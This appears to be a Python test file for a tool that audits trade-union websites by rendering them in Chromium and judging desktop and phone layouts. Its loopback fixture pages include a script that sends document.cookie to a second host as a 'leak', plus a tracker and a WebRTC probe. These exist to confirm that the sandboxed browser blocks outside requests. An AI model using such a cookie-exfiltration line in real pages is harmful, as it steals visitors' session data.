"""Rendering in Chromium: the layouts judged by measurement (pure), and the browser itself on
small pages served on loopback — a page built only by its script, a computer layout wider
than the screen, a phone layout wider than the phone, a good page, a phone column on a
computer screen. The browser tests skip on a machine without Chromium (saying which
package to install) and fail instead under CI=true."""

import asyncio
import json
import threading
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer

import pytest

from profinfo.cli import main as profinfo
from profinfo.monitoring import rendering
from profinfo.monitoring.collectors import site
from profinfo.monitoring.collectors.layout import Measurement, judge_desktop, judge_phone
from profinfo.monitoring.collectors.site_criteria import Finding
from profinfo.monitoring.fetcher import Fetcher, FetchSettings
from profinfo.monitoring.rendering import NO_BROWSER, Renderer, RenderNote
from tests.conftest import require

URL = "http://127.0.0.1:8000/"
NO_BROWSER_SENTENCE = ("рендеринг: не выполнен — не найден браузер Chromium (установите пакет "
                       "chromium и profinfo[render])")


def desktop(**figures) -> Measurement:
    return Measurement("desktop", 1366, 900, **{"page_width": 1366, "text_chars": 2000,
                                                "content_width": 1100, **figures})


def phone(**figures) -> Measurement:
    return Measurement("phone", 390, 844, **{"page_width": 390, "text_chars": 2000,
                                             "content_width": 360, "targets": 20,
                                             "small_targets": 2, **figures})


# --- judging measurements (no browser) -------------------------------------------------------

def test_a_computer_layout_wider_than_the_screen_is_not_one():
    finding = judge_desktop(URL, desktop(page_width=2000))
    assert finding.present is False
    assert "страница шире экрана: 2000 px" in finding.evidence and "1366 px" in finding.evidence


def test_a_phone_column_on_a_computer_screen_is_not_a_computer_layout():
    finding = judge_desktop(URL, desktop(content_width=380))
    assert finding.present is False and "колонку 380 px" in finding.evidence


def test_a_computer_layout_with_mostly_tiny_text_is_not_one():
    finding = judge_desktop(URL, desktop(small_text_chars=1500))
    assert finding.present is False and "75\u00a0%" in finding.evidence


def test_a_good_computer_layout_says_what_was_measured():
    finding = judge_desktop(URL, desktop(page_width=1367, small_text_chars=100))
    assert finding.present is True  # a pixel of rounding is no sideways scrolling
    assert finding.evidence == (f"{URL} — при ширине экрана 1366 px (измерено в браузере) без "
                                "прокрутки вбок, колонка текста 1100 px, мелкого текста 5\u00a0%")


def test_no_measurement_or_no_text_leaves_the_computer_layout_unchecked():
    assert judge_desktop(URL, None) == Finding(None)
    blank = judge_desktop(URL, desktop(text_chars=0))
    assert blank.present is None and "нет текста" in blank.evidence


def test_a_page_shrunk_onto_a_phone_overflows_it():
    """No viewport tag: Chromium lays the page out at 980 px and shrinks it to 390."""
    finding = judge_phone(URL, phone(page_width=980, scale=0.398), Finding(False))
    assert finding.present is False and "страница шире экрана: 980 px" in finding.evidence


def test_a_phone_layout_with_unreadable_text_is_not_one_and_tiny_targets_are_advice():
    small_text = judge_phone(URL, phone(small_text_chars=1200), Finding(True))
    assert small_text.present is False and "мелкий текст" in small_text.evidence
    tiny = judge_phone(URL, phone(targets=10, small_targets=8), Finding(True))
    assert tiny.present is True and "8 из 10 — их стоит сделать крупнее" in tiny.evidence
    few = judge_phone(URL, phone(targets=3, small_targets=3), Finding(True))
    assert few.present is True and "крупнее" not in few.evidence  # three links say little


def test_without_a_measurement_the_viewport_rule_stands_for_the_phone():
    static = Finding(True, f"{URL} — «<meta name=\"viewport\" …>»")
    assert judge_phone(URL, None, static) is static
    assert judge_phone(URL, phone(text_chars=0), static) is static
    measured = judge_phone(URL, phone(), Finding(True))
    assert measured.present is True and "измерено в браузере" in measured.evidence
    fixed_width = judge_phone(URL, phone(), Finding(False))  # «width=980»: shrunk, not laid out
    assert fixed_width.present is False and "width=device-width" in fixed_width.evidence


def test_render_notes_say_why_in_russian():
    assert RenderNote(False, "no_browser").message == NO_BROWSER_SENTENCE
    assert RenderNote(True).to_contract() == {
        "done": True, "reason": None,
        "message": "рендеринг: выполнен в Chromium (экраны 1366×900 и 390×844)"}
    assert NO_BROWSER in NO_BROWSER_SENTENCE


def test_which_pages_a_mode_renders():
    browser = "/usr/bin/chromium"
    assert Renderer("auto", executable=browser).refusal(script_only=True) is None
    assert Renderer("auto", executable=browser).refusal(script_only=False) == "not_needed"
    assert Renderer("always", executable=browser).refusal(script_only=False) is None
    assert Renderer("never", executable=browser).refusal(script_only=True) == "off"
    assert Renderer("always", executable="").refusal(script_only=True) == "no_browser"
    with pytest.raises(ValueError, match="PROFINFO_RENDER"):
        Renderer("sometimes")


def test_no_browser_is_found_where_there_is_none(settings):
    settings.PROFINFO_CHROMIUM = "/nonexistent/chromium"
    assert rendering.chromium_path() is None
    assert Renderer("auto").refusal(script_only=True) == "no_browser"


# --- pages on loopback ---------------------------------------------------------------------

VIEWPORT = '<meta name="viewport" content="width=device-width, initial-scale=1">'
PROSE = ("Первичная профсоюзная организация защищает права работников завода, ведёт "
         "коллективные переговоры и помогает членам профсоюза. ") * 12
PAGES = {
    # built by its script; the script also tries to reach other addresses
    "/js/": f"""<!DOCTYPE html><html><head><meta charset="utf-8">{VIEWPORT}
        <title>Профком</title><script src="/js/app.js"></script>
        <script src="http://{{other}}/tracker.js"></script></head>
        <body><div id="app"></div><noscript>Включите JavaScript</noscript></body></html>""",
    "/js/app.js": """document.addEventListener('DOMContentLoaded', () => {
        document.getElementById('app').innerHTML = '<h1>Профком завода</h1><p>' +
          {prose} + '</p><p><a href="https://fnpr.ru/">Сайт ФНПР</a></p>' +
          '<p><a href="/js/vopros.html">Задать вопрос</a></p>';
        fetch('http://{other}/leak?cookie=' + document.cookie).catch(() => {});
        new Image().src = 'http://{other}/pixel.gif';
      });""".replace("{prose}", json.dumps(PROSE)),
    # a page that would probe addresses over WebRTC, and says whether it could
    "/rtc/": f"""<!DOCTYPE html><html><head><meta charset="utf-8">{VIEWPORT}</head><body>
        <div id="app"></div><script>
        const blocked = typeof RTCPeerConnection === 'undefined'
          && typeof webkitRTCPeerConnection === 'undefined';
        document.getElementById('app').innerHTML = blocked
          ? '<p>WebRTC недоступен</p>' : '<p><a href="https://fnpr.ru/">WebRTC работает</a></p>';
        </script></body></html>""",
    "/js/vopros.html": f"""<!DOCTYPE html><html><head><meta charset="utf-8">{VIEWPORT}</head>
        <body><h1>Задать вопрос</h1><form action="/send"><label>Ваш вопрос
        <textarea name="question"></textarea></label><button>Отправить вопрос</button>
        </form></body></html>""",
    # a computer layout wider than any screen
    "/wide/": f"""<!DOCTYPE html><html><head><meta charset="utf-8">{VIEWPORT}</head>
        <body style="margin:0">
        <div style="width:2000px"><p>{PROSE}</p></div></body></html>""",
    # the old table layout: 900 px and no viewport tag
    "/table/": f"""<!DOCTYPE html><html><head><meta charset="utf-8"></head><body>
        <table style="width:900px"><tr><td>{PROSE}</td></tr></table></body></html>""",
    # a viewport tag promising a phone layout, and a 900 px table breaking it
    "/promise/": f"""<!DOCTYPE html><html><head><meta charset="utf-8">{VIEWPORT}</head><body>
        <table style="width:900px"><tr><td>{PROSE}</td></tr></table></body></html>""",
    # a phone's column on every screen
    "/narrow/": f"""<!DOCTYPE html><html><head><meta charset="utf-8">{VIEWPORT}</head>
        <body style="max-width:380px;margin:0 auto"><p>{PROSE}</p></body></html>""",
    # fluid, readable, tappable
    "/good/": f"""<!DOCTYPE html><html><head><meta charset="utf-8">{VIEWPORT}
        <style>body{{font:16px/1.5 sans-serif;margin:0 auto;max-width:1100px;padding:0 16px}}
        nav a{{display:inline-block;padding:12px 16px}}</style></head><body>
        <nav><a href="/good/">Главная</a><a href="/good/">Новости</a><a href="/good/">Документы</a>
        <a href="/good/">Контакты</a></nav><h1>Профком</h1><p>{PROSE}</p></body></html>""",
}


class _Handler(SimpleHTTPRequestHandler):
    def do_GET(self):  # noqa: N802 - the http.server name
        self.server.asked.append(self.path)
        path = self.path.split("?", 1)[0]
        body = self.server.pages.get(path.rstrip("/"))  # the check drops a trailing slash
        if body is None:
            self.send_error(404)
            return
        kind = "application/javascript" if path.endswith(".js") else "text/html; charset=utf-8"
        data = body.encode()
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, *args):
        pass


def _serve(address: str, pages: dict[str, str]) -> ThreadingHTTPServer:
    server = ThreadingHTTPServer((address, 0), _Handler)
    server.pages, server.asked = pages, []
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


@pytest.fixture(scope="module")
def served():
    """The pages on 127.0.0.1, and another host (127.0.0.2) the pages try to reach."""
    other = _serve("127.0.0.2", {"/tracker.js": "document.title = 'чужой скрипт';"})
    other_address = f"127.0.0.2:{other.server_address[1]}"
    pages = {path.rstrip("/"): body.replace("{other}", other_address)
             for path, body in PAGES.items()}
    own = _serve("127.0.0.1", pages)
    yield f"http://127.0.0.1:{own.server_address[1]}", own, other
    for server in (own, other):
        server.shutdown()
        server.server_close()


@pytest.fixture
def chromium():
    path = rendering.chromium_path()
    require(path is not None, "нет браузера Chromium для рендеринга: установите пакет chromium "
                              "(apt-get install chromium) и profinfo[render]")
    return path


def audit(url: str, renderer_mode: str | None, chromium: str | None = None,
          allow_private: bool = True):
    async def run():
        settings = FetchSettings(allow_private=allow_private, backoff=0.01)
        async with Fetcher(settings) as fetcher:
            if renderer_mode is None:
                return await site.collect(url, fetcher), None
            async with Renderer(renderer_mode, executable=chromium) as renderer:
                return await site.collect(url, fetcher, renderer=renderer), renderer

    return asyncio.run(run())


def present(result, code: str):
    return result.criteria[code].present


def test_without_a_browser_a_script_page_is_flagged_and_its_layout_unchecked(served):
    base, _, _ = served
    result, renderer = audit(base + "/js/", "auto", chromium="")
    assert result.script_only and result.rendering == RenderNote(False, "no_browser")
    assert result.rendering.message == NO_BROWSER_SENTENCE
    assert present(result, "fnpr_link") is False  # nothing to read without the script
    assert present(result, "desktop_layout") is None  # «не проверено», never «нет»
    assert present(result, "mobile_layout") is True  # the viewport tag's rule
    assert renderer.launches == 0
    assert site.audit_to_contract(result)["rendering"]["message"] == NO_BROWSER_SENTENCE


def test_check_says_when_no_browser_is_found(served, settings, capsys):
    base, _, _ = served
    settings.PROFINFO_ALLOW_PRIVATE_ADDRESSES = True
    settings.PROFINFO_RENDER = "auto"
    settings.PROFINFO_CHROMIUM = "/nonexistent/chromium"
    profinfo(["check", base + "/js/", "--json"])
    data = json.loads(capsys.readouterr().out)
    assert data["rendering"] == {"done": False, "reason": "no_browser",
                                 "message": NO_BROWSER_SENTENCE}
    assert data["criteria"]["desktop_layout"] == {"present": None, "evidence": None}
    assert len(data["criteria"]) == 12
    profinfo(["check", base + "/js/"])
    text = capsys.readouterr().out
    assert NO_BROWSER_SENTENCE in text and "[не проверено] Вёрстка для компьютера" in text


@pytest.mark.slow
@pytest.mark.browser
def test_a_script_only_page_is_read_as_the_browser_builds_it(served, chromium):
    base, own, other = served
    own.asked.clear()
    other.asked.clear()
    result, renderer = audit(base + "/js/", "auto", chromium)
    assert result.error is None and result.script_only
    assert result.rendering == RenderNote(True)
    fnpr = result.criteria["fnpr_link"]
    assert fnpr.present is True and "https://fnpr.ru/" in fnpr.evidence
    assert present(result, "ask_question") is True
    assert base + "/js/vopros.html" in result.pages  # a link only the script writes
    assert present(result, "desktop_layout") is True
    assert "1366 px (измерено в браузере)" in result.criteria["desktop_layout"].evidence
    assert present(result, "mobile_layout") is True
    assert "390 px (измерено в браузере)" in result.criteria["mobile_layout"].evidence
    assert other.asked == []  # the browser reached no other address
    assert "/js/app.js" in own.asked and renderer.launches == 1


@pytest.mark.slow
@pytest.mark.browser
def test_a_computer_layout_wider_than_the_screen(served, chromium):
    base, _, _ = served
    result, _ = audit(base + "/wide/", "always", chromium)
    desktop_finding = result.criteria["desktop_layout"]
    assert desktop_finding.present is False
    assert "страница шире экрана: 2000 px" in desktop_finding.evidence
    assert present(result, "mobile_layout") is False  # wider than a phone too


@pytest.mark.slow
@pytest.mark.browser
def test_a_phone_layout_wider_than_the_phone(served, chromium):
    base, _, _ = served
    table, _ = audit(base + "/table/", "always", chromium)
    assert present(table, "mobile_layout") is False
    assert "страница шире экрана: 980 px" in table.criteria["mobile_layout"].evidence
    assert present(table, "desktop_layout") is True  # 900 px fit a computer's screen
    promise, _ = audit(base + "/promise/", "always", chromium)
    assert promise.criteria["mobile_layout"].present is False  # the tag alone proves nothing
    assert "страница шире экрана: 9" in promise.criteria["mobile_layout"].evidence
    unrendered, _ = audit(base + "/promise/", None)
    assert present(unrendered, "mobile_layout") is True  # what the tag alone would say


@pytest.mark.slow
@pytest.mark.browser
def test_a_good_page_and_a_phone_column_on_a_computer(served, chromium):
    base, _, _ = served
    good, _ = audit(base + "/good/", "always", chromium)
    assert (present(good, "desktop_layout"), present(good, "mobile_layout")) == (True, True)
    narrow, _ = audit(base + "/narrow/", "always", chromium)
    assert present(narrow, "desktop_layout") is False
    assert "как на телефоне" in narrow.criteria["desktop_layout"].evidence
    assert present(narrow, "mobile_layout") is True


@pytest.mark.slow
@pytest.mark.browser
def test_one_browser_renders_many_sites_a_few_at_a_time(served, chromium):
    base, _, _ = served

    async def run():
        settings = FetchSettings(allow_private=True, backoff=0.01)
        async with Fetcher(settings) as fetcher, \
                Renderer("always", executable=chromium, pages=2) as renderer:
            results = await asyncio.gather(*(renderer.render(base + path, fetcher)
                                             for path in ("/good/", "/wide/", "/table/",
                                                          "/narrow/")))
            return results, renderer.launches

    results, launches = asyncio.run(run())
    assert launches == 1
    assert [r.error for r in results] == [None] * 4
    assert [r.measurements["desktop"].page_width for r in results] == [1366, 2000, 1366, 1366]


@pytest.mark.slow
@pytest.mark.browser
def test_the_browser_is_refused_private_addresses_as_the_fetcher_is(served, chromium):
    base, own, _ = served
    own.asked.clear()

    async def run():
        async with Fetcher(FetchSettings(allow_private=False)) as fetcher, \
                Renderer("always", executable=chromium) as renderer:
            return await renderer.render(base + "/good/", fetcher)

    result = asyncio.run(run())
    assert result.error == "failed" and result.measurements == {} and result.html == ""
    assert own.asked == []  # not even robots.txt: the address was refused before connecting


@pytest.mark.slow
@pytest.mark.browser
def test_check_render_measures_a_static_page(served, settings, capsys, chromium):
    base, _, _ = served
    settings.PROFINFO_ALLOW_PRIVATE_ADDRESSES = True
    profinfo(["check", base + "/table/", "--render", "--json"])
    data = json.loads(capsys.readouterr().out)
    assert data["rendering"]["done"] is True
    assert data["criteria"]["mobile_layout"]["present"] is False
    assert data["criteria"]["desktop_layout"]["present"] is True
    profinfo(["check", base + "/table/"])  # PROFINFO_RENDER=never here: the tag's rule only
    text = capsys.readouterr().out
    assert "рендеринг: не выполнен — отключён настройкой PROFINFO_RENDER=never" in text
    assert "[не проверено] Вёрстка для компьютера" in text


@pytest.mark.slow
@pytest.mark.browser
def test_a_run_renders_only_the_script_only_site(served, settings, transactional_db, chromium):
    from django.core.management import call_command

    from profinfo.demo import load_demo
    from profinfo.monitoring.models import Metric, Observation
    from profinfo.registry.models import Resource
    from tests.factories import register

    base, _, _ = served
    load_demo()
    Resource.objects.exclude(url="").update(is_active=False)  # the demo's real addresses
    settings.PROFINFO_ALLOW_PRIVATE_ADDRESSES = True
    settings.PROFINFO_RENDER = "auto"
    script_only, static = register(base + "/js/"), register(base + "/good/")
    call_command("collect", "--no-progress", "--kind", "site")
    details = {o.resource_id: o.details for o in Observation.objects.filter(
        metric=Metric.SITE_AUDIT, resource__in=[script_only, static])}
    assert details[script_only.pk]["rendering"]["done"] is True
    assert details[script_only.pk]["criteria"]["fnpr_link"]["present"] is True
    assert details[script_only.pk]["criteria"]["desktop_layout"]["present"] is True
    assert details[static.pk]["rendering"]["reason"] == "not_needed"
    assert details[static.pk]["criteria"]["desktop_layout"]["present"] is None


@pytest.mark.slow
@pytest.mark.browser
def test_a_rendered_page_cannot_use_webrtc(served, chromium):
    """WebRTC sends UDP past the route handler and the proxy: page scripts never get it."""
    base, _, _ = served
    result, _ = audit(base + "/rtc/", "always", chromium)
    assert result.rendering == RenderNote(True)
    assert present(result, "fnpr_link") is False  # the script found no RTCPeerConnection


def test_the_browser_may_ask_only_the_sites_own_port():
    from profinfo.monitoring.rendering import _same_port

    assert _same_port("https://union.ru/app.js", "http://union.ru/")
    assert not _same_port("http://union.ru:6379/", "http://union.ru/")
    assert _same_port("http://127.0.0.1:8123/a.js", "http://127.0.0.1:8123/")
    assert not _same_port("http://127.0.0.1:22/", "http://127.0.0.1:8123/")
    assert not _same_port("http://union.ru:99999999/", "http://union.ru/")
